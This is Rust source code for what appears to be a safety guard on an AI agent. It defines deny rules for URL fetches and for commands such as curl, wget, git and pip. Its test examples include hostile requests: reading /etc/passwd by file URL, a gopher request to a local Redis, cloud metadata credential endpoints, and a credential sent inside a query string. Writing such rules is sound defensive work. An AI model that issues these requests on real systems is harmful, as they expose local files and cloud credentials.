//! Web addresses that are fetched, by the agent's own tool or by a command.

use super::call::base;
use super::example::{fetch, sh};
use super::{Call, Ctx, Hit, Pack, Rule, Script, Subject, net};
use crate::decision::{Decision, RuleId};
use crate::fetch::{self, judge_url};
use crate::xpia::Level;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: RuleId::new("fetch/unreadable"),
        pack: Pack::Fetch,
        harm: "an address that no reader understands the same way goes to another place than it shows",
        decision: Decision::Deny,
        matches: &[fetch("http://"), fetch("http://[::zz]/"), fetch("https://exa mple.com/")],
        not_matches: &[fetch("https://docs.rs/serde"), fetch("example.com/path")],
        check: |ctx| by(ctx, "fetch/unreadable"),
    },
    Rule {
        id: RuleId::new("fetch/scheme"),
        pack: Pack::Fetch,
        harm: "a fetch reads local files or speaks to services that trust this machine",
        decision: Decision::Deny,
        matches: &[fetch("file:///etc/passwd"), fetch("gopher://127.0.0.1:6379/_x")],
        not_matches: &[fetch("http://localhost:3000/"), fetch("localhost:8080/health")],
        check: |ctx| by(ctx, "fetch/scheme"),
    },
    Rule {
        id: RuleId::new("fetch/metadata"),
        pack: Pack::Fetch,
        harm: "the machine's own cloud credentials are fetched",
        decision: Decision::Deny,
        matches: &[
            fetch("http://169.254.169.254/latest/"),
            fetch("http://[::ffff:169.254.169.254]/"),
            fetch("http://metadata.google.internal/computeMetadata/v1/"),
        ],
        not_matches: &[fetch("https://example.com/169.254.169.254"), fetch("http://192.168.1.10/")],
        check: |ctx| by(ctx, "fetch/metadata"),
    },
    Rule {
        id: RuleId::new("fetch/denied-domain"),
        pack: Pack::Fetch,
        harm: "a domain that the user never wants reached is reached",
        decision: Decision::Deny,
        matches: &[
            fetch("https://denied.example/x"),
            fetch("https://a.b.DENIED.example./"),
            sh("curl -s https://denied.example/x"),
            sh("wget denied.example/x"),
            sh("git clone https://cdn.denied.example/r.git"),
            sh("pip install https://denied.example/p.whl"),
        ],
        not_matches: &[
            fetch("https://notdenied.example/"),
            sh("echo https://denied.example/x"),
            sh("grep -r denied.example docs"),
            sh("curl https://other.example/?u=denied.example"),
        ],
        check: denied_domain,
    },
    Rule {
        id: RuleId::new("fetch/userinfo"),
        pack: Pack::Fetch,
        harm: "an address shows one host and goes to another",
        decision: Decision::Deny,
        matches: &[fetch("https://google.com@other.example/")],
        not_matches: &[
            fetch("https://user:pw@git.example.com/r.git"),
            fetch("https://medium.com/@name/post"),
        ],
        check: |ctx| by(ctx, "fetch/userinfo"),
    },
    Rule {
        id: RuleId::new("fetch/secret"),
        pack: Pack::Fetch,
        harm: "a credential leaves the machine inside an address",
        decision: Decision::Deny,
        matches: &[fetch("https://x.example/?t=AKIAIOSFODNN7QWERTYU")],
        not_matches: &[fetch("https://x.example/?t=hello")],
        check: |ctx| by(ctx, "fetch/secret"),
    },
    Rule {
        id: RuleId::new("fetch/unlisted-domain"),
        pack: Pack::Fetch,
        harm: "at the strictest level a domain that the user did not name is reached",
        decision: Decision::Deny,
        matches: &[fetch("https://elsewhere.example/").strictest()],
        not_matches: &[
            fetch("https://elsewhere.example/"),
            fetch("https://api.allowed.example/").strictest(),
        ],
        check: unlisted,
    },
];

/// What [`judge_url`] says, if it is by this rule.
fn by(ctx: &Ctx<'_>, id: &str) -> Option<Hit> {
    let Subject::Fetch(url) = ctx.subject else { return None };
    let xpia = &ctx.script.settings.xpia;
    let verdict = judge_url(url, &xpia.lists);
    if verdict.rule.is_none_or(|rule| rule.0 != id) {
        return None;
    }
    match verdict.decision {
        Decision::Ask => asks(ctx, verdict.reason),
        _ => ctx.deny(verdict.reason),
    }
}

/// An ask, or a deny where the user wants high risks blocked.
pub(super) fn asks(ctx: &Ctx<'_>, reason: impl Into<String>) -> Option<Hit> {
    if ctx.script.settings.xpia.block_high_risk { ctx.deny(reason) } else { ctx.ask(reason) }
}

fn unlisted(ctx: &Ctx<'_>) -> Option<Hit> {
    let Subject::Fetch(url) = ctx.subject else { return None };
    let xpia = &ctx.script.settings.xpia;
    if xpia.level < Level::Strict || xpia.lists.allow.is_empty() {
        return None;
    }
    let host = fetch::host_of(url)?;
    if fetch::listed(&host, &xpia.lists.allow) {
        return None;
    }
    asks(ctx, format!("{host} is not on the user's list of allowed domains"))
}

fn denied_domain(ctx: &Ctx<'_>) -> Option<Hit> {
    let Subject::Call(call) = ctx.subject else { return by(ctx, "fetch/denied-domain") };
    let denied = &ctx.script.settings.xpia.lists.deny;
    if denied.is_empty() || !reaches(ctx.script, call) {
        return None;
    }
    let (arg, host) = call.operands().find_map(|arg| {
        let host = fetch::host_of(arg.text())?;
        fetch::listed(&host, denied).then_some((arg, host))
    })?;
    ctx.deny(format!("{host} is on the user's list of denied domains")).map(|hit| hit.at(arg.span))
}

/// Whether a command gets something from the addresses among its arguments.
fn reaches(script: &Script<'_>, call: &Call<'_>) -> bool {
    const INSTALLERS: [&str; 12] =
        ["pip", "pip3", "pipx", "uv", "npm", "npx", "pnpm", "yarn", "bun", "cargo", "go", "docker"];
    net::fetches(script, call)
        || INSTALLERS.contains(&base(&call.program))
        || call.is(&["git"])
            && call.has(&["clone", "fetch", "pull", "push", "ls-remote", "submodule", "remote"])
}
